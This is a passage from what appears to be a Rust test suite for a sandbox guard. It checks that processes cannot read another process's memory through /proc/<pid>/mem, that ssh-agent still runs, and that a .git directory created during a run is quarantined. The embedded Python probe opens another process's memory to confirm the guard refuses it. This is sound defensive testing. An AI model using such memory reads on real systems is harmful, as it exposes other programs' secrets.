libc = ctypes.CDLL(None, use_errno=True)
r, wr = os.pipe()
child = os.fork()
if child == 0:
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
    secret = b"undumpable-secret-" + b"x" * 16
    open("made-by-undumpable", "w").write("ok")
    os.write(wr, b"1")
    time.sleep(3)
    os._exit(0)
os.close(wr)
if os.read(r, 1) != b"1":
    print("CHILD FAILED")
try:
    fd = os.open("/proc/%d/mem" % child, os.O_RDONLY | os.O_CREAT)
    print("OPENED OTHER MEM")
except OSError as e:
    print("NO OTHER MEM", e.errno)
os.kill(child, 9)
os.waitpid(child, 0)
"#,
    );
    let o = w.run("python3 nd.py");
    let out = stdout(&o);
    assert_eq!(
        std::fs::read_to_string(w.ws.join("made-by-undumpable")).unwrap_or_default(),
        "ok",
        "{}",
        text(&o)
    );
    assert!(out.contains("NO OTHER MEM 13"), "{}", text(&o));
    // ssh-agent, which makes itself undumpable before it makes its socket.
    w.write(
        "agent.sh",
        "eval \"$(ssh-agent -s)\" >/dev/null && echo AGENT && ssh-agent -k >/dev/null\n",
    );
    let a = w.run("bash agent.sh");
    assert!(stdout(&a).contains("AGENT"), "{}", text(&a));
    // Control: outside, an opener that may trace (root) reads that memory,
    // which the guard, a thread with CAP_SYS_PTRACE, could too; anyone else
    // is refused.
    let c = w.control("python3 nd.py");
    let want = if is_root() {
        "OPENED OTHER MEM"
    } else {
        "NO OTHER MEM 13"
    };
    assert!(stdout(&c).contains(want), "control: {}", text(&c));
}

#[test]
fn a_repository_made_at_the_top_while_the_run_lasts_does_not_stay() {
    // The guard refuses a `.git` at the top of a workspace that had none;
    // one made by anything it does not see (here the host, as a writer
    // outside the sandbox would) is moved aside after the run.
    let w = World::new();
    let child = w.run_command("sleep 1.5").spawn().unwrap();
    std::thread::sleep(Duration::from_millis(400));
    host_git(&w, &["init", "-q"]);
    let status = child.wait_with_output().unwrap().status;
    assert_eq!(status.code(), Some(77));
    assert!(!exists(&w.ws.join(".git")), ".git stayed");
    assert_eq!(
        names_containing(&w.ws, ".git.tether-quarantine").len(),
        1,
        "moved aside, not lost"
    );
}
